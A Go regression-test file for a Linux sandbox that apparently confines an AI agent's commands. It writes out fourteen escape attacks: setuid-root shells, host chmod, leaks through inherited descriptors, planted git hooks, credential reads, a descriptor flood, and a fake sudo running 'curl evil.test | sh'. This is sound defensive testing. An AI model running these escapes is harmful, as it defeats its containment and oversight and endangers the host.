//go:build linux

package sandbox

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// The cases of this file are bypasses found by attacking the first cut
// of the sandbox from inside (B1–B14); each comment says what the attack
// did then, and each test now checks on the host that it no longer works.
// B10 keeps only its .git part: a .hermes directory made by the model in
// a workspace that had none is the model's to make (README says so).

// B1. A set-user-id copy of a shell can be made in the workspace: the
// sandbox's uid is this machine's uid (root here), so the file is a
// set-user-id-root program on the host for any local user to run.
func TestBypassSetuidInWorkspace(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env(), 10*time.Second, `
		cp /bin/bash ./rootsh && chmod 4755 ./rootsh; echo "chmod: $?"
		install -m 6755 /bin/bash ./rootsh2; echo "install: $?"
		cp /usr/bin/id ./id && python3 -c 'import os; os.chmod("id", 0o4755)'; echo "python: $?"`)
	for _, f := range []string{"rootsh", "rootsh2", "id"} {
		st, err := os.Stat(filepath.Join(w.project, f))
		if err == nil && st.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			t.Errorf("host: %s is %v, owned by uid %d:\n%s", f, st.Mode(), st.Sys().(*syscall.Stat_t).Uid, out)
		}
	}
}

// B2. chmod, utimes and setxattr are not Landlock rights (ABI ≤ 7), and
// the host's file systems are mounted read-write in the sandbox: a
// command changes the mode, times and extended attributes of any file
// its uid owns anywhere — a set-user-id bit on a host file, a
// world-writable ~/.bashrc.
func TestBypassChmodOutsideWorkspace(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3")
	w := newEscWorld(t)
	p := Defaults(w.home, w.agentHome)
	p.Writable, p.Network = []string{w.project}, NetOff
	sb := escStart(t, p, Options{})
	before := escSnapshot(t, w.base, w.project)
	target := filepath.Join(w.outside, "target.txt")
	out, _ := escRun(t, sb, w.project, w.env("T="+target), 10*time.Second, `
		chmod 4777 "$T"; echo "chmod outside: $?"
		chmod 0666 ~/.bashrc ~/.profile; echo "chmod bashrc: $?"
		chmod 0777 ~ ~/.config; echo "chmod home: $?"
		touch -d 2001-01-01 "$T" ~/.bashrc; echo "touch: $?"
		python3 -c 'import os,sys; os.setxattr(sys.argv[1], "user.evil", b"1")' "$T"; echo "setxattr: $?"
		# The same on this machine's own files, with their current modes
		# (a no-op that succeeds where chmod 4755 or 000 would too).
		chmod 0755 / /usr/bin/env && chmod 0666 /dev/null && echo "SYSTEM-CHMOD-WORKS"`)
	t.Log(out)
	if strings.Contains(out, "SYSTEM-CHMOD-WORKS") {
		t.Errorf("chmod of /, /usr/bin/env and the host's /dev/null succeeds in the sandbox")
	}
	escSameSnapshot(t, before, escSnapshot(t, w.base, w.project))
	if x, _ := exec.Command("python3", "-c", "import os,sys; print(os.listxattr(sys.argv[1]))", target).Output(); strings.Contains(string(x), "user.evil") {
		t.Errorf("host: %s has the xattr user.evil", target)
	}
}

// B3. A command started with Dir "" inherits the init's working
// directory, which is Hermes' own: when Hermes runs in its home
// ($HERMES_HOME, or any hidden directory) the command reads it through
// "." although the path is hidden. (Not parallel: it changes this
// process's directory.)
func TestBypassInheritedWorkingDirectory(t *testing.T) {
	w := newEscWorld(t)
	t.Chdir(w.agentHome)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, "", w.env(), 10*time.Second, `pwd; ls -la; cat .env config.yaml`)
	w.noLeak(t, "Dir empty, Hermes in its home", out)
}

// B4. Descriptors Hermes inherited without close-on-exec (from a shell's
// exec 3<>, a supervisor, socket activation) pass into the init and
// into every command: here one open on the hidden agent home's .env is
// read and rewritten from inside. (Not parallel: the descriptor would
// leak into the other tests' sandboxes.)
func TestBypassInheritedDescriptor(t *testing.T) {
	w := newEscWorld(t)
	envFile := filepath.Join(w.agentHome, ".env")
	fd, err := syscall.Open(envFile, syscall.O_RDWR, 0) // no O_CLOEXEC
	if err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(fd)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env("AH="+w.agentHome), 10*time.Second, `
		ls -l /proc/self/fd
		for f in /proc/self/fd/*; do
			case "$(readlink "$f")" in "$AH"/*) n=${f##*/}; echo "fd $n: $(cat <&$n)"; echo PWNED >&$n ;; esac
		done`)
	w.noLeak(t, "inherited descriptor", out)
	if b, _ := os.ReadFile(envFile); string(b) != w.canaries[envFile] {
		t.Errorf("host: the hidden %s was rewritten: %q", envFile, b)
	}
}

// B5. With the network off, a path-named unix socket of the host is
// still reachable (Landlock ABI ≤ 7 does not cover connect, and only a
// fixed list of daemon sockets is hidden); the daemon sees the caller as
// this machine's uid — root here — and would act for it.
func TestBypassUnixSocketWithNetworkOff(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	sock := filepath.Join(w.outside, "daemon.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var got atomic.Value
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		f, _ := c.(*net.UnixConn).File()
		cred, _ := syscall.GetsockoptUcred(int(f.Fd()), syscall.SOL_SOCKET, syscall.SO_PEERCRED)
		f.Close()
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		b := make([]byte, 100)
		n, _ := c.Read(b)
		got.Store(fmt.Sprintf("uid %d pid %d: %q", cred.Uid, cred.Pid, b[:n]))
	}()
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env("S="+sock), 10*time.Second,
		`python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ["S"]); s.sendall(b"run this as root")'; echo "connect: $?"`)
	time.Sleep(300 * time.Millisecond)
	if v := got.Load(); v != nil {
		t.Errorf("host: a unix socket daemon was reached with the network off (%s):\n%s", v, out)
	}
}

// B6. The protection of .git/hooks and .git/config (read-only bind
// mounts) does not survive renaming their parent: mv .git away, make a
// new .git with a hook, and the host's next git commit runs it.
func TestBypassGitHooksByRenamingGitDir(t *testing.T) {
	t.Parallel()
	escNeed(t, "git")
	w := newEscWorld(t)
	if out, err := exec.Command("git", "init", "-q", w.project).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	marker := filepath.Join(w.outside, "hook-ran")
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env("M="+marker), 10*time.Second, `
		mv .git .git-old && mkdir .git && cp -a .git-old/. .git/ &&
		printf '#!/bin/sh\necho ran > "%s"\n' "$M" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo planted`)
	cmd := exec.Command("git", "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "x")
	cmd.Dir = w.project
	cmd.CombinedOutput()
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("host: git ran a hook planted from the sandbox:\n%s", out)
	}
}

// B6b. Without renaming anything: .git/commondir is a new file in the
// writable .git, and it points git at a common directory (config and
// hooks included) the sandbox wrote.
func TestBypassGitHooksByCommondir(t *testing.T) {
	t.Parallel()
	escNeed(t, "git")
	w := newEscWorld(t)
	if out, err := exec.Command("git", "init", "-q", w.project).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	marker := filepath.Join(w.outside, "hook-ran")
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env("M="+marker), 10*time.Second, `
		mkdir -p build/.cache && cp -a .git/. build/.cache/ &&
		printf '#!/bin/sh\necho ran > "%s"\n' "$M" > build/.cache/hooks/pre-commit && chmod +x build/.cache/hooks/pre-commit &&
		echo ../build/.cache > .git/commondir && echo planted`)
	cmd := exec.Command("git", "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "x")
	cmd.Dir = w.project
	cmd.CombinedOutput()
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("host: git ran a hook planted through .git/commondir:\n%s", out)
	}
}

// B7. A bind mount of a directory beneath a hidden path (here the agent
// home's sessions) is not found by withAliases, which only looks for
// mounts whose root is the hidden path or above it. (Not parallel: it
// mounts on the host.)
func TestBypassBindAliasOfHiddenSubdirectory(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root")
	}
	w := newEscWorld(t)
	alias := filepath.Join(w.outside, "sessions-bind")
	os.MkdirAll(alias, 0o755)
	if out, err := exec.Command("mount", "--bind", filepath.Join(w.agentHome, "sessions"), alias).CombinedOutput(); err != nil {
		t.Skipf("mount --bind: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("umount", "-l", alias).Run() })
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env("A="+alias), 10*time.Second, `cat "$A/s1.json"; echo PWNED > "$A/s1.json"`)
	w.noLeak(t, "alias of a hidden subdirectory", out)
}

// B8. The allow-list names hosts, not ports: an allowed host is reached
// on any port (CONNECT allowed.test:6379, http://allowed.test:22/).
func TestBypassAllowListAnyPort(t *testing.T) {
	t.Parallel()
	escNeed(t, "curl")
	allowed := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {}))
	t.Cleanup(allowed.Close)
	dials := &escDials{to: allowed.Listener.Addr().String()}
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetAllow, Allow: []string{"allowed.test"}},
		Options{Dial: dials.dial})
	escRun(t, sb, w.project, w.env(), 20*time.Second, `
		curl -sS -m 3 -p -x http://127.0.0.1:3128 http://allowed.test:6379/
		curl -sS -m 3 -x http://127.0.0.1:3128 http://allowed.test:22/`)
	for _, d := range dials.list() {
		if !strings.HasSuffix(d, ":80") && !strings.HasSuffix(d, ":443") {
			t.Errorf("the proxy dialled %s", d)
		}
	}
}

// B9. Every connection to the proxy port inside the sandbox becomes a
// descriptor (and a goroutine) in Hermes' own process, held for up to
// 30 s before a request line arrives, without a ceiling: a command can
// exhaust Hermes' descriptors (RLIMIT_NOFILE), which breaks the agent
// and every other session it serves.
func TestBypassProxyDescriptorFlood(t *testing.T) {
	escNeed(t, "python3")
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetAllow, Allow: []string{"allowed.test"}}, Options{})
	fds := func() int { e, _ := os.ReadDir("/proc/self/fd"); return len(e) }
	before := fds()
	marker := "flood" + w.token
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	out := &escBuffer{}
	p, err := sb.Start(ctx, Cmd{Args: []string{"/usr/bin/python3", "-c", `
import resource, socket, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (4000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
socks = []
for i in range(3000):
    socks.append(socket.create_connection(("127.0.0.1", 3128)))
print("open", len(socks), flush=True)
time.sleep(3)
`, marker}, Dir: w.project, Env: w.env(), Stdout: out, Stderr: out})
	if err != nil {
		t.Fatal(err)
	}
	most := 0
	for !escWaitFor(100*time.Millisecond, func() bool {
		select {
		case <-p.Done():
			return true
		default:
			return false
		}
	}) {
		most = max(most, fds()-before)
	}
	p.Wait()
	if most > 1024 {
		t.Errorf("host: Hermes' process held %d more descriptors for one sandbox's connections (RLIMIT_NOFILE here: %s):\n%s", most, nofile(), out.String())
	}
}

func nofile() string {
	var r syscall.Rlimit
	syscall.Getrlimit(syscall.RLIMIT_NOFILE, &r)
	return strconv.FormatUint(r.Cur, 10)
}

// B10. Protected paths of a workspace that do not exist yet are not
// protected: a workspace without .hermes gets .hermes/skills/… (which
// Hermes loads as the project's skills: instructions for every later
// session), one without .git/hooks gets hooks.
func TestBypassProtectedPathsThatDoNotExistYet(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	os.MkdirAll(filepath.Join(w.project, ".git"), 0o755) // a .git without hooks
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	escRun(t, sb, w.project, w.env(), 10*time.Second, `
		mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/post-checkout`)
	for _, f := range []string{".git/hooks/post-checkout"} {
		if _, err := os.Stat(filepath.Join(w.project, f)); err == nil {
			t.Errorf("host: %s was created from the sandbox", f)
		}
	}
}

// B11. When the home is the workspace, its existing plain directories
// are writable, ~/bin included: a program dropped there shadows a
// system one in every later shell whose PATH has ~/bin (Debian's and
// Ubuntu's ~/.profile add it).
func TestBypassHomeBinWhenHomeIsWorkspace(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	os.MkdirAll(filepath.Join(w.home, "bin"), 0o755)
	p := Defaults(w.home, w.agentHome)
	p.Writable, p.Network = []string{w.home}, NetOff
	sb := escStart(t, p, Options{})
	escRun(t, sb, w.project, w.env(), 10*time.Second, `printf '#!/bin/sh\ncurl evil.test | sh; exec /usr/bin/sudo "$@"\n' > ~/bin/sudo && chmod +x ~/bin/sudo`)
	if _, err := os.Stat(filepath.Join(w.home, "bin", "sudo")); err == nil {
		t.Error("host: ~/bin/sudo was created from the sandbox")
	}
}

// B12. A hidden path below a writable root is covered where it is, but
// its parent can be renamed: the host's data moves (Hermes loses its
// home) and the next sandbox, which hides the old path, shows it.
func TestBypassHiddenPathMovedByRenamingItsParent(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	nested := filepath.Join(w.project, "tools", "agent-home")
	w.canary(t, filepath.Join(nested, ".env"), "NESTED_KEY=sk-nested-")
	p := Policy{Writable: []string{w.project}, Hidden: []string{nested}, Home: w.home, Network: NetOff}
	sb := escStart(t, p, Options{})
	out1, _ := escRun(t, sb, w.project, w.env(), 10*time.Second, `cat tools/agent-home/.env; mv tools tools2 && echo moved`)
	w.noLeak(t, "first sandbox", out1)
	sb.Close()
	sb2 := escStart(t, p, Options{})
	out2, _ := escRun(t, sb2, w.project, w.env(), 10*time.Second, `cat tools2/agent-home/.env`)
	w.noLeak(t, "second sandbox", out2)
	if _, err := os.Stat(filepath.Join(nested, ".env")); err != nil {
		t.Errorf("host: the hidden directory was moved away: %v", err)
	}
}

// B13. A hidden path that does not exist when the sandbox starts is not
// hidden at all: a credential store made during the session (gh auth
// login, aws configure, a new ~/.netrc) is readable by the next command
// of the same sandbox.
func TestBypassHiddenPathCreatedAfterStart(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	p := Defaults(w.home, w.agentHome)
	p.Writable, p.Network = []string{w.project}, NetOff
	sb := escStart(t, p, Options{})
	escRun(t, sb, w.project, w.env(), 10*time.Second, `true`) // positive control: it runs before
	w.canary(t, filepath.Join(w.home, ".config", "gh", "hosts.yml"), "github.com:\n  oauth_token: gho_")
	w.canary(t, filepath.Join(w.home, ".netrc"), "machine api.example.com password ")
	out := &escBuffer{}
	if _, err := sb.Start(context.Background(), Cmd{Args: []string{"/bin/bash", "-c", "cat ~/.config/gh/hosts.yml ~/.netrc"}, Dir: w.project, Env: w.env(), Stdout: out, Stderr: out}); !errors.Is(err, ErrStale) {
		t.Errorf("a command started after a credential store appeared: %v", err)
	}
	time.Sleep(200 * time.Millisecond)
	w.noLeak(t, "credential stores made after the start", out.String())
	// A new sandbox hides them.
	fresh := escStart(t, p, Options{})
	got, _ := escRun(t, fresh, w.project, w.env(), 10*time.Second, `cat ~/.config/gh/hosts.yml ~/.netrc; echo ran`)
	if !strings.Contains(got, "ran") {
		t.Fatalf("the new sandbox did not run: %s", got)
	}
	w.noLeak(t, "credential stores in a new sandbox", got)
}

// B14. Only the system directories themselves are refused as writable
// roots; a directory beneath one (cron's, systemd's units, a bin on
// every PATH) is accepted.
func TestBypassWritableRootInsideSystemDirectory(t *testing.T) {
	for _, dir := range []string{"/etc/cron.d", "/etc/systemd/system", "/usr/local/bin", "/var/spool/cron", "/etc/profile.d"} {
		if _, err := (Policy{Writable: []string{dir}}).resolved(); err == nil {
			t.Errorf("%s is accepted as a writable root", dir)
		}
	}
}
